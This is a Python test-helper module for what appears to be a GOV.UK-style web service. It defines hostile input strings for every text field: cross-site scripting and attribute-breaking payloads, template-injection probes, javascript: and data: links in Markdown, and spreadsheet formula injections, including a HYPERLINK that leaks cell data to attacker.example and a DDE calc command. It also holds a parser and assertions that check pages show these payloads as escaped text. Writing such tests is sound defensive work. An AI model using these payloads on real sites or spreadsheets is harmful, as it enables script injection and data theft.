"""Text that attacks whatever shows it: HTML and attribute breaking, template expressions,
script links, spreadsheet formulas, control characters, a right-to-left override and very
long text. Every text field a person can fill is tested with these; ``assert_inert`` checks
a page or an email shows them as text."""
import re
from html.parser import HTMLParser

from markupsafe import escape

SCRIPT = "<script>alert(1)</script>"
ATTRIBUTE = '"><img src=x onerror=alert(1)>'
SINGLE_QUOTE = "' onmouseover='alert(1)"
TEMPLATE = "{{7*7}}"
TEMPLATE_BLOCK = "{% raw %}{{ config }}{% endraw %}"
SCRIPT_LINK = "javascript:alert(1)"
HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'
AT_FORMULA = "@SUM(1)"
PLUS_FORMULA = "+1+cmd|' /C calc'!A0"
MINUS_FORMULA = "-2+3"
REPORTLAB_MARKUP = "<b>bold</b> <font color=red>red</font> <para> & </unclosed>"
CONTROL = "before\r\nINJECTED: forged line\x1b[31m\x07after"
RTL = "invoice\u202egnp.exe"
LONG = "Long text " * 600

# Names of a school, a cycle and an approver, within their columns' lengths.
HOSTILE_SCHOOL = f'=HYPERLINK("http://attacker.example/","x") {ATTRIBUTE} {TEMPLATE}'
HOSTILE_CYCLE = f"{SCRIPT} {TEMPLATE} cycle"
APPROVER = ATTRIBUTE + TEMPLATE
HOSTILE_TITLE = f"{SCRIPT} Hostile audit"

# Short payloads a name, an owner or a file's reference can hold (200 characters or
# fewer), shown by pages that must print them as text.
TEXT = (SCRIPT, ATTRIBUTE, SINGLE_QUOTE, TEMPLATE, TEMPLATE_BLOCK, SCRIPT_LINK, HYPERLINK,
        AT_FORMULA, PLUS_FORMULA, REPORTLAB_MARKUP, RTL)
# Everything, for the fields that take long text.
EVERYTHING = TEXT + (CONTROL, MINUS_FORMULA, LONG)
# Spreadsheet cells that must come out as text, never as a formula.
FORMULAS = (HYPERLINK, AT_FORMULA, PLUS_FORMULA, "=1+1", "\t=1+1", "\r=1+1")

# Markdown that tries to bring in markup or script.
MARKDOWN = (
    SCRIPT,
    ATTRIBUTE,
    "[click me](javascript:alert(1))",
    "[click me](JaVaScRiPt:alert(1))",
    "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![image](x onerror=alert(1))",
    '<a href="javascript:alert(1)">click me</a>',
    "<iframe src=//attacker.example></iframe>",
    '<div style="background:url(javascript:alert(1))">styled</div>',
    "[click me](http://example.org \"title\" onclick=alert(1))",
)


def combined() -> str:
    """One text holding most payloads, for a field that can take 2,000 characters."""
    return " | ".join(TEXT)


# Inert ---------------------------------------------------------------------------------

# Markup that would run if a page printed a payload raw.
LIVE = ("<script>alert", "<img src=x", "onmouseover='alert", "<b>bold</b>",
        "<font color=red>", "<iframe")


class _Markup(HTMLParser):
    """Collects what in a page would run or load: script without the page's nonce, frames,
    images, event handler and style attributes, script and data links."""

    def __init__(self):
        super().__init__()
        self.problems = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag in ("iframe", "object", "embed", "img") or \
                (tag == "script" and "nonce" not in attributes):
            self.problems.append(f"<{tag} {attributes}>")
        for name, value in attrs:
            link = "".join((value or "").split()).lower()
            if name.startswith("on") or name == "style" or \
                    (name in ("href", "src", "action") and link.startswith(("javascript:",
                                                                           "data:"))):
                self.problems.append(f"<{tag} {name}={value!r}>")


def live_markup(html: str) -> list[str]:
    parser = _Markup()
    parser.feed(html)
    return parser.problems


def assert_inert(page: str, shown=TEXT, where=""):
    """Every payload in ``shown`` is on the page, escaped (so ``{{7*7}}`` was not worked
    out either); nothing of the corpus is live markup."""
    for payload in shown:
        assert str(escape(payload)) in page, f"{where}: {payload!r} is not shown as text"
    for live in LIVE:
        assert live not in page, f"{where}: {live!r} is live on the page"
    assert live_markup(page) == [], where


def errors_on(page: str) -> list[str]:
    """The GOV.UK error messages of a page, to say why a form was refused."""
    return re.findall(r'govuk-error-message">\s*<span[^>]*>[^<]*</span>([^<]*)', page)
